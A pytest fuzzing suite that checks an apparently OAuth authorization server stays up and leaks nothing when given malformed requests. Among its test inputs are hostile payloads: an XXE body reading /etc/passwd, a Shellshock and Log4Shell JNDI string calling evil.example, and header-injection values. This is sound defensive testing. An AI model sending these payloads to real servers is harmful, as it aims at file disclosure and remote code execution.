"""Whatever comes in: never a status of 5xx, never a stack trace, and the next one is answered."""

import pytest
from hypothesis import HealthCheck, given, settings as examples, strategies as st
from tests.server.http import wire
from tests.server.http.well_formed import PATHS

from throwaway.browser import asking
from throwaway.instance import Instance


NAMES = tuple(
    "client_id client_secret redirect_uri response_type response_mode scope state code_challenge"  # noqa: SIM905  # shorter
    " code_challenge_method resource nonce prompt max_age login_hint grant_type code code_verifier"
    " refresh_token token token_type_hint access_token transaction csrf decision username password"
    " switch request request_uri client_assertion client_assertion_type user_code device_code"
    " subject_token subject_token_type actor_token audience id_token_hint claims dpop_jkt"
    " post_logout_redirect_uri".split()
)
FORM = b"application/x-www-form-urlencoded"
TEXT = st.one_of(
    st.text(max_size=40),
    st.sampled_from(["shop", "code", "S256", "query", "form_post", "none", "refresh_token", "0"]),
    st.sampled_from(["authorization_code", "client_credentials", "https://shop.example/callback"]),
)
ESCAPED = st.binary(max_size=20).map(lambda raw: "".join(f"%{byte:02x}" for byte in raw))
WIRE = st.one_of(ESCAPED, st.binary(max_size=30).map(lambda raw: raw.decode("latin-1")))
QUIET = examples(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)


@QUIET
@given(st.sampled_from(PATHS), st.lists(st.tuples(st.sampled_from(NAMES), TEXT), max_size=8))
def test_no_form_and_no_query_makes_the_server_fail(
    instance: Instance, path: str, pairs: list[tuple[str, str]]
) -> None:
    body = "&".join(f"{name}={_escape(value)}" for name, value in pairs)
    for answer in (
        instance.http.get(f"{path}?{body}"),
        instance.http.post(path, content=body, headers={"Content-Type": FORM.decode()}),
        instance.http.post(
            path,
            content=body,
            headers={"Content-Type": FORM.decode()},
            auth=instance.shop.basic,
        ),
    ):
        assert answer.status_code < 500
        assert "Traceback" not in answer.text


def _escape(value: str) -> str:
    return "".join(f"%{byte:02x}" for byte in value.encode("utf-8", "surrogatepass"))


@QUIET
@given(st.sampled_from(PATHS), st.tuples(WIRE, WIRE, WIRE, WIRE))
def test_no_bytes_on_the_wire_make_the_server_fail(
    instance: Instance, path: str, parts: tuple[str, str, str, str]
) -> None:
    query, cookie, header, body = parts
    raw_body = body.encode("latin-1")
    request = b"".join(
        (
            f"POST {path}?{query} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n".encode("latin-1"),
            f"Cookie: __Host-authly_session={cookie}\r\n".encode("latin-1"),
            f"Authorization: {header}\r\nIf-None-Match: {header}\r\n".encode("latin-1"),
            b"Content-Type: " + FORM + b"\r\n",
            f"Content-Length: {len(raw_body)}\r\n\r\n".encode(),
            raw_body,
        )
    )
    for sent in (request, request.replace(b"POST ", b"GET ", 1)):
        answer = wire.send(instance, sent)
        assert answer is not None
        assert answer.status < 500
        assert b"Traceback" not in answer.body


@pytest.fixture(scope="module")
def settings() -> dict[str, str]:
    return {"CACHE_TTL": "0", "DYNAMIC_REGISTRATION": "open"}


METHODS = ("GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND")
BODIES = {
    "application/json": b'{"a": [1, 2.5, null, "b"]}',
    "application/x-www-form-urlencoded": b"a=b",
    "multipart/form-data; boundary=x": b"--x\r\nContent-Disposition: form-data; name=a\r\n\r\nb",
    "text/plain; charset=utf-7": b"+AGE-",
    "text/html; charset=no-such": b"\xff\xfe",
    "application/xml": b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "": b"",
}


@pytest.mark.parametrize("path", PATHS)
def test_no_method_and_no_kind_of_body_makes_the_server_fail(instance: Instance, path: str) -> None:
    for method in METHODS:
        for content_type, body in BODIES.items():
            headers = {"Content-Type": content_type} if content_type else {}
            answer = instance.http.request(method, path, content=body, headers=headers)
            assert answer.status_code < 500
            if method in {"PUT", "PATCH", "DELETE", "TRACE"} and "{" not in path:
                assert answer.status_code == 405
                assert answer.headers["Allow"]


HEADERS = {
    "Accept": "\xff/*;q=1e400, text/html;;;",
    "Accept-Language": "*, de;q=nan" * 100,
    "Authorization": "DPoP " + "a.b.c" * 3000,
    "Content-Length": "0",
    "Cookie": '__Host-authly_session="\\303"; __Host-authly_device=x.y.z; $Version=9',
    "DPoP": "eyJ.eyJ.x",
    "If-Modified-Since": "Thu, 99 Foo 99999 99:99:99 GMT",
    "Origin": "null",
    "Referer": "javascript:alert(1)",
    "User-Agent": "() { :; }; /bin/false ${jndi:ldap://evil.example}",
    "X-Forwarded-For": ", ,\xff,[::1, 1.2.3.4:99999, unknown" + ", 1.2.3.4" * 2000,
    "X-Forwarded-Host": "evil.example",
    "X-Forwarded-Proto": "javascript",
    "X-Request-Id": "a" * 5000,
    "Forwarded": 'for="[::1]:x";by=\xff;host=evil.example',
    "X-HTTP-Method-Override": "DELETE",
}


@pytest.mark.parametrize("name", HEADERS)
def test_no_header_makes_the_server_fail_or_say_what_it_said(instance: Instance, name: str) -> None:
    for path in PATHS:
        for method in ("GET", "POST"):
            headers = [(name.encode(), HEADERS[name].encode("latin-1"))]
            answer = instance.http.request(method, path, headers=headers)
            assert answer.status_code < 500
            assert "evil.example" not in answer.text
            assert "evil.example" not in str(answer.headers)


def test_all_of_that_left_no_trace_and_no_error_in_the_log(instance: Instance) -> None:
    assert instance.http.get("/authorize", params=asking(instance.shop)).status_code == 303
    assert not [each for each in instance.server.records() if each["level"] == "error"]
